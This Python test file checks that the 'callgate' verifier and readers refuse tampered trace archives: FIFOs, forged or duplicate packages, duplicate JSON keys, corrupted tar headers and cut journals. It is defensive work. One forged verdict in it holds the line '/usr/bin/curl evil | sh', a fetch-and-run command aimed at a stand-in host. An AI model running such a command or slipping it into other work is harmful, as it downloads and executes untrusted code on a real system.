# SPDX-License-Identifier: MIT
"""Every reader of an archived package reads the same bytes, or refuses.

A stopped daemon's archive, then changed as an attacker with write access
to the state would change it. Judged by effect: the verifier's exit status
and named failure, what `callgate verdict` prints, and that nothing hangs
(each command runs under a timeout; a FIFO used to block them forever).
"""
import json
import os
import shutil
import subprocess
import tarfile
import uuid
import unittest

import cgtest

FILES = ("events.ndjson", "verdict.json", "verdict.md", "replay.json", "diff.json")


def cli(*args, timeout=60):
    return subprocess.run([cgtest.CALLGATE, *args], capture_output=True, text=True,
                          timeout=timeout)


def member(name, data):
    ti = tarfile.TarInfo(name)
    ti.size, ti.mtime, ti.mode = len(data), 0, 0o644
    return ti.tobuf(format=tarfile.USTAR_FORMAT) + data + b"\0" * (-len(data) % 512)


class ArchiveReaders(cgtest.TamperCase):
    @classmethod
    def setUpClass(cls):
        cls.keep_calls(3)

    def setUp(self):
        super().setUp()
        self.adir = os.path.join(self.state, "traces", "archive")
        tars = sorted(n for n in os.listdir(self.adir) if n.endswith(".tar"))
        self.assertEqual(len(tars), 1, tars)
        self.tar = os.path.join(self.adir, tars[0])

    def package(self, tid):
        with tarfile.open(self.tar, "r:") as tf:
            return {m.name.split("/", 1)[1]: tf.extractfile(m).read()
                    for m in tf.getmembers() if m.name.startswith(tid + "/")}

    def replay_all(self):
        p = cli("replay", "--all", "--json", "--no-write", "--state-dir", self.state)
        out = json.loads(p.stdout) if p.stdout.strip().startswith("{") else {}
        return p.returncode, {f["check"] for f in out.get("failures", [])}, p

    def test_a_fifo_in_place_of_an_archive_hangs_no_reader(self):
        os.unlink(self.tar)
        os.mkfifo(self.tar)
        rc, checks, p = self.replay_all()
        self.assertEqual(rc, 1, p.stdout[-2000:] + p.stderr)
        self.assertIn("archive_unreadable", checks)
        tid = self.ids[0]
        p = cli("replay", tid, "--no-write", "--state-dir", self.state)
        self.assertNotEqual(p.returncode, 0, p.stdout)
        p = cli("verdict", tid, "--state-dir", self.state)
        self.assertNotEqual(p.returncode, 0, p.stdout)

    def test_a_fifo_in_place_of_an_index_is_named(self):
        idx = self.tar[:-4] + ".idx"
        os.unlink(idx)
        os.mkfifo(idx)
        p = cli("replay", "--all", "--no-write", "--state-dir", self.state)
        self.assertNotEqual(p.returncode, 0, p.stdout)
        self.assertNotIn("Cannot allocate memory", p.stderr)

    def test_a_package_under_the_journals_own_id_is_not_a_trace(self):
        """The journal's own events have no package: one named after them is
        what trace_not_in_journal is for, and no reader shows it."""
        # A journal event under that id: the daemon's own recovery record.
        seg = sorted(os.listdir(os.path.join(self.state, "journal")))
        self.assertTrue(seg)
        forged = os.path.join(self.state, "traces", "journal")
        os.makedirs(forged)
        for name, data in self.package(self.ids[0]).items():
            with open(os.path.join(forged, name), "wb") as f:
                f.write(data.replace(b"BLOCK", b"ALLOW"))
        rc, checks, p = self.replay_all()
        self.assertEqual(rc, 1, p.stdout[-2000:])
        self.assertIn("trace_not_in_journal", checks)
        p = cli("verdict", "journal", "--state-dir", self.state)
        self.assertNotEqual(p.returncode, 0, p.stdout)
        self.assertNotIn("ALLOW", p.stdout)

    def test_duplicate_members_in_a_verdict_are_refused(self):
        """Forged values first, the real ones last: a last-wins parser sees
        the truth, a first-wins reader (or a person) the forgery."""
        shutil.rmtree(os.path.join(self.state, "traces", self.ids[0]), ignore_errors=True)
        pk = self.package(self.ids[0])
        forged = b'{"decision": "ALLOW", "executed": true, ' + pk["verdict.json"].lstrip()[1:]
        d = os.path.join(self.state, "traces", self.ids[0])
        os.makedirs(d)
        for name in FILES:
            with open(os.path.join(d, name), "wb") as f:
                f.write(forged if name == "verdict.json" else pk[name])
        rc, checks, p = self.replay_all()
        self.assertEqual(rc, 1, p.stdout[-2000:])
        self.assertIn("verdict_mismatch", checks)
        p = cli("verdict", self.ids[0], "--json", "--state-dir", self.state)
        self.assertNotEqual(p.returncode, 0, p.stdout)
        self.assertNotIn('"ALLOW"', p.stdout)

    def test_two_archives_naming_one_trace_are_read_by_no_reader(self):
        """Which index line wins used to depend on the directory's order, and
        `verdict` and `replay TRACE` took different ones."""
        tid = self.ids[-1]
        pk = self.package(tid)
        pk["verdict.md"] = pk["verdict.md"].replace(b"/bin/true", b"/usr/bin/curl evil | sh")
        base = os.path.join(self.adir, "0000000000000000")
        with open(base + ".tar", "wb") as f:
            f.write(b"".join(member(tid + "/" + n, pk[n]) for n in FILES))
        with open(base + ".idx", "w") as f:
            f.write("%s 0\n" % tid)
        p = cli("verdict", tid, "--state-dir", self.state)
        self.assertNotEqual(p.returncode, 0, p.stdout)
        self.assertNotIn("curl evil", p.stdout)
        p = cli("replay", tid, "--no-write", "--state-dir", self.state)
        self.assertNotEqual(p.returncode, 0, p.stdout)
        rc, checks, p = self.replay_all()
        self.assertEqual(rc, 1)
        self.assertIn("archive_index_repeat", checks)

    def test_an_archive_no_reader_reads_is_named(self):
        """A .tar whose name no archive has (40 bytes or more) is skipped by
        every callgate reader, but tar shows what it holds."""
        tid = self.ids[-1]
        pk = self.package(tid)
        long_name = os.path.join(self.adir, "0000000000000001-copy-from-backup-2026-11.tar")
        with open(long_name, "wb") as f:
            f.write(b"".join(member(tid + "/" + n, pk[n]) for n in FILES))
        rc, checks, p = self.replay_all()
        self.assertEqual(rc, 1, p.stdout[-2000:])
        self.assertIn("archive_layout", checks)

    def test_junk_in_a_device_number_field_is_refused(self):
        """tarfile stops at a header whose devmajor it cannot read; GNU tar
        reads on: the members after it are seen by one reader only."""
        with open(self.tar, "r+b") as f:
            f.seek(512 * 0)
            h = bytearray(f.read(512))
            h[329:337] = b"zzzzzzz\0"
            h[148:156] = b"        "
            h[148:155] = b"%06o\0" % sum(h)
            f.seek(0)
            f.write(h)
        rc, checks, p = self.replay_all()
        self.assertEqual(rc, 1, p.stdout[-2000:])
        self.assertIn("archive_layout", checks)


class BorrowedLock(cgtest.TamperCase):
    """replay is lenient with a running daemon's tail; any process can hold
    the journal's lock. A cut journal, and old unsigned or unpackaged seals,
    must fail under a borrowed lock as they do with the daemon stopped."""

    @classmethod
    def setUpClass(cls):
        with cgtest.Daemon() as d:
            cls.ids = [d.request(cgtest.make_request([["/bin/true"]], privileged=False))
                       ["reply"]["trace_id"] for _ in range(3)]
            cgtest.wait_package_file(d.state_dir, cls.ids[-1], "verdict.md")
            d.stop()
            cls.keep(d.state_dir)

    def replay_locked(self):
        lock = os.path.join(self.state, "journal", "LOCK")
        p = subprocess.run(["flock", "-x", lock, cgtest.CALLGATE, "replay", "--all", "--json",
                            "--no-write", "--state-dir", self.state],
                           capture_output=True, text=True, timeout=120)
        out = json.loads(p.stdout) if p.stdout.strip().startswith("{") else {}
        self.assertTrue(out.get("journal", {}).get("live"), p.stdout[-500:] + p.stderr)
        return p.returncode, {f["check"] for f in out.get("failures", [])}, p

    def test_untouched_passes_under_a_held_lock(self):
        rc, checks, p = self.replay_locked()
        self.assertEqual(rc, 0, p.stdout[-2000:])

    def test_a_journal_cut_after_its_last_trace_fails_under_a_held_lock(self):
        jdir = os.path.join(self.state, "journal")
        seg = os.path.join(jdir, sorted(n for n in os.listdir(jdir) if n.endswith(".ndjson"))[-1])
        with open(seg, "rb") as f:
            lines = f.readlines()
        # The journal cut before its last trace (and the clean stop's event after it).
        first = next(i for i, ln in enumerate(lines) if self.ids[-1].encode() in ln)
        keep = lines[:first]
        self.assertTrue(all(self.ids[-1].encode() in ln or b'"trace":"journal"' in ln
                            for ln in lines[first:]))
        with open(seg, "wb") as f:
            f.writelines(keep)
        for name in ("journal.resume",):
            if os.path.exists(os.path.join(self.state, name)):
                os.unlink(os.path.join(self.state, name))
        shutil.rmtree(os.path.join(self.state, "traces", self.ids[-1]), ignore_errors=True)
        rc, checks, p = self.replay_locked()
        self.assertEqual(rc, 1, p.stdout[-2000:])
        self.assertIn("journal_truncated", checks)


class IncompleteVerdict(cgtest.TamperCase):
    """A call running when the daemon was killed: at the next start its trace
    is marked incomplete and gets a package. Its verdict is derivable from
    the journal and must be checked like a sealed one (rewritten to "BLOCK,
    nothing ran" it used to pass every verifier)."""

    @classmethod
    def setUpClass(cls):
        import signal
        import threading
        import time
        d = cgtest.Daemon().start()
        try:
            box = {}

            def send():
                try:
                    box["r"] = d.request(cgtest.make_request([["sleep", "30"]],
                                                             privileged=False), timeout=60)
                except Exception as e:  # the daemon dies under it
                    box["e"] = e

            t = threading.Thread(target=send, daemon=True)
            t.start()
            seg_dir = os.path.join(d.state_dir, "journal")
            end = time.time() + 20
            while time.time() < end:
                text = ""
                for n in os.listdir(seg_dir):
                    if n.endswith(".ndjson"):
                        with open(os.path.join(seg_dir, n)) as f:
                            text += f.read()
                if '"type":"exec.started"' in text:
                    break
                time.sleep(0.05)
            d.stop(signal.SIGKILL)
            t.join(5)
            if d._logf:
                d._logf.close()
                d._logf = None
            d.start()
            d.stop()
            p = cli("log", "--events", "--json", "--state-dir", d.state_dir)
            cls.cut = sorted({json.loads(ln)["trace"] for ln in p.stdout.splitlines()
                              if json.loads(ln)["type"] == "incomplete"})
            cls.keep(d.state_dir)
        finally:
            d.close()

    def verdict_files(self, tid):
        d = os.path.join(self.state, "traces", tid)
        if os.path.isdir(d):
            return d
        adir = os.path.join(self.state, "traces", "archive")
        files = {}
        for n in sorted(os.listdir(adir)):
            if n.endswith(".tar"):
                with tarfile.open(os.path.join(adir, n), "r:") as tf:
                    for m in tf.getmembers():
                        if m.name.startswith(tid + "/"):
                            files[m.name.split("/", 1)[1]] = tf.extractfile(m).read()
        os.makedirs(d)
        for name, data in files.items():
            with open(os.path.join(d, name), "wb") as f:
                f.write(data)
        return d

    def replay_all(self):
        p = cli("replay", "--all", "--json", "--no-write", "--state-dir", self.state)
        out = json.loads(p.stdout) if p.stdout.strip().startswith("{") else {}
        return p.returncode, {f["check"] for f in out.get("failures", [])}, out, p

    def test_untouched_passes_with_the_trace_incomplete(self):
        self.assertEqual(len(self.cut), 1, self.cut)
        rc, checks, out, p = self.replay_all()
        self.assertEqual(rc, 0, p.stdout[-2000:])
        self.assertEqual(out["summary"]["incomplete"], 1, out["summary"])
        # The package a rebuild writes is the one replay expects.
        d = os.path.join(self.state, "traces", self.cut[0])
        shutil.rmtree(d, ignore_errors=True)
        r = cli("evidence", "rebuild", self.cut[0], "--state-dir", self.state)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        rc, checks, out, p = self.replay_all()
        self.assertEqual(rc, 0, p.stdout[-2000:])

    def test_a_rewritten_incomplete_verdict_fails(self):
        tid = self.cut[0]
        for name, old, new in (("verdict.md", b"ALLOW", b"BLOCK"),
                               ("verdict.json", b'"executed": true', b'"executed": false')):
            self.fresh_state()
            d = self.verdict_files(tid)
            path = os.path.join(d, name)
            with open(path, "rb") as f:
                data = f.read()
            forged = data.replace(old, new) if old in data else data + b"\n"
            self.assertNotEqual(forged, data)
            with open(path, "wb") as f:
                f.write(forged)
            rc, checks, out, p = self.replay_all()
            self.assertEqual(rc, 1, (name, p.stdout[-2000:]))
            self.assertIn("verdict_mismatch", checks, name)


if __name__ == "__main__":
    unittest.main()
